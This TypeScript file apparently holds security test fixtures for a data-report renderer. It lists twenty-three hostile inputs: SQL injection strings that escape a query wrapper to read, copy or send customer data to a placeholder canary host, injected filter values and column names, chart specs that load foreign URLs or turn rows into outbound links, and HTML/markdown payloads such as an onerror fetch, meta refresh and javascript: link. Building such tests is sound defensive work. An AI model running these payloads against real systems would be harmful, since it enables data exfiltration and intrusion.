import type { Hostile } from './types';
import { reportOf, sqlCell } from './write';

const bar = (extra: object) => ({
  mark: 'bar',
  encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } },
  ...extra,
});

/** The first twenty-three. */
export const reports: readonly Hostile[] = [
  { id: 'sql-read', tries: 'reads a foreign file', kind: 'sql', sql: "SELECT * FROM read_csv('{{canary}}/sql-read.csv')" },
  {
    id: 'sql-leak',
    tries: 'leaves the wrapper and sends customers out in an address',
    kind: 'sql',
    sql: "SELECT 1) AS x; SET VARIABLE d = (SELECT string_agg(customer_id, '-') FROM customers); FROM read_text('{{canary}}/sql-leak?d=' || getvariable('d')); SELECT * FROM (SELECT 1",
  },
  {
    id: 'sql-hidden',
    tries: 'hides the reading in a text that is run',
    kind: 'sql',
    sql: "FROM query('SELECT * FROM read_' || 'csv(''{{canary}}/sql-hidden.csv'')')",
  },
  {
    id: 'sql-copy',
    tries: 'leaves the wrapper and writes rows to an address',
    kind: 'sql',
    sql: "SELECT 1) AS x; COPY customers TO '{{canary}}/sql-copy.csv'; SELECT * FROM (SELECT 1",
  },
  {
    id: 'sql-load',
    tries: 'leaves the wrapper and loads a foreign extension',
    kind: 'sql',
    sql: "SELECT 1) AS x; LOAD '{{canary}}/sql-load.duckdb_extension.wasm'; SELECT * FROM (SELECT 1",
  },
  {
    id: 'sql-install',
    tries: 'leaves the wrapper and installs from a foreign host',
    kind: 'sql',
    sql: "SELECT 1) AS x; INSTALL sql_install FROM '{{canary}}/sql-install'; LOAD sql_install; SELECT * FROM (SELECT 1",
  },
  {
    id: 'sql-attach',
    tries: 'leaves the wrapper and attaches a foreign database',
    kind: 'sql',
    sql: "SELECT 1) AS x; ATTACH '{{canary}}/sql-attach.db' AS away (READ_ONLY); SELECT * FROM (SELECT 1",
  },
  {
    id: 'sql-comment',
    tries: 'comments the wrapper out',
    kind: 'sql',
    sql: "SELECT 1) AS x; ATTACH '{{canary}}/sql-comment.db' AS away2 (READ_ONLY); --",
  },
  {
    id: 'filter-value',
    tries: 'puts SQL into the value of a filter',
    kind: 'filters',
    column: 'region',
    values: [
      "x') OR 1 IN (SELECT count(*) FROM read_csv('{{canary}}/filter-value.csv')) --",
      "\\'; ATTACH '{{canary}}/filter-value.db'; --",
    ],
  },
  {
    id: 'filter-column',
    tries: 'puts SQL into the name of a column',
    kind: 'filters',
    column: 'region" IN (SELECT content FROM read_text(\'{{canary}}/filter-column\')) OR "region',
    values: ['北京'],
  },
  {
    id: 'report-outbreak',
    tries: 'closes the brackets around its query and reads an address behind them',
    kind: 'agreed',
    report: reportOf([
      sqlCell("SELECT 1 AS a) AS x) AS y; FROM read_csv('{{canary}}/report-outbreak.csv'); SELECT * FROM (SELECT * FROM (SELECT 1 AS a"),
    ]),
  },
  {
    id: 'report-unanswered',
    tries: 'reads an address before anybody has agreed',
    kind: 'unanswered',
    report: reportOf([sqlCell("FROM read_csv('{{canary}}/report-unanswered.csv')")]),
  },
  {
    id: 'chart-data',
    tries: 'loads its data from a foreign host',
    kind: 'chart',
    spec: bar({ data: { url: '{{canary}}/chart-data.csv' } }),
  },
  {
    id: 'chart-layer',
    tries: 'loads the data of an inner layer',
    kind: 'chart',
    spec: { layer: [bar({}), bar({ data: { url: '{{canary}}/chart-layer.json' } })] },
  },
  {
    id: 'chart-lookup',
    tries: 'looks values up in a foreign table',
    kind: 'chart',
    spec: bar({ transform: [{ lookup: 'a', from: { data: { url: '{{canary}}/chart-lookup.json' }, key: 'a', fields: ['c'] } }] }),
  },
  {
    id: 'chart-image',
    tries: 'draws a foreign picture',
    kind: 'chart',
    spec: {
      mark: { type: 'image', width: 40, height: 40 },
      encoding: { url: { value: '{{canary}}/chart-image.png' }, x: { field: 'a', type: 'nominal' } },
    },
  },
  {
    id: 'chart-href',
    tries: 'makes its marks links that carry rows away',
    kind: 'chart',
    spec: {
      transform: [{ calculate: "'{{canary}}/chart-href?d=' + datum.b", as: 'away' }],
      ...bar({}),
      encoding: { ...bar({}).encoding, href: { field: 'away', type: 'nominal' } },
    },
  },
  {
    id: 'chart-usermeta',
    tries: 'brings its own loader by embed options',
    kind: 'chart',
    spec: bar({
      usermeta: { embedOptions: { loader: { baseURL: '{{canary}}/' }, patch: '{{canary}}/chart-usermeta.json', actions: true } },
    }),
  },
  { id: 'text-image', tries: 'shows a foreign picture', kind: 'markdown', markdown: 'Sales rose.\n\n![chart]({{canary}}/text-image.png)' },
  {
    id: 'text-html',
    tries: 'brings elements that load, refresh and submit',
    kind: 'markdown',
    markdown:
      '<img src="{{canary}}/text-html.png" onerror="fetch(\'{{canary}}/text-html\')">\n\n<iframe src="{{canary}}/text-html.html"></iframe>\n\n<form action="{{canary}}/text-html"><button>More</button></form>',
  },
  {
    id: 'text-refresh',
    tries: 'sends the whole page elsewhere',
    kind: 'markdown',
    markdown: '<meta http-equiv="refresh" content="0; url={{canary}}/text-refresh">',
  },
  {
    id: 'text-script-link',
    tries: 'makes a link that runs script',
    kind: 'markdown',
    markdown: "[open](javascript:void(location='{{canary}}/text-script-link'))",
  },
  { id: 'text-link', tries: 'links to an address that is not encrypted', kind: 'markdown', markdown: '[more]({{canary}}/text-link)' },
];
